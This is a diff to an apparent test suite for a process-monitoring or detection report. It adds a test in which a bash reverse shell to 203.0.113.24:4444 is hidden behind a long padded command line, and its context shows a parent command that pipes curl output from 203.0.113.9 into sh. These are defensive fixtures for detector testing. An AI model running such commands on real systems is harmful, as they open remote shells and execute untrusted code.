@@ -270,6 +270,12 @@ describe('a report says what the fields support', () => {
     expect(text.includes(`${name} runs beneath ${server}`)).toBe(isSign)
   })
 
+  test('a long beginning hides nothing of a command line', () => {
+    const report = reported({ fields: { 'proc.cmdline': `bash -c : ${'a'.repeat(6_000)}; bash -i >& /dev/tcp/203.0.113.24/4444 0>&1` } })
+    expect(textOf(report, 'Verdict')).toContain('(/dev/tcp/203.0.113.24/4444)')
+    expect(problemsIn(report)).toEqual([])
+  })
+
   test("what the parent's command line asks for is told as the parent's", () => {
     const fields = { 'proc.name': 'kworkerd', 'proc.cmdline': 'kworkerd', 'proc.pcmdline': 'sh -c curl -s http://203.0.113.9/x | sh' }
     expect(assess({ fields })).toContain("What the parent's command line asks for")
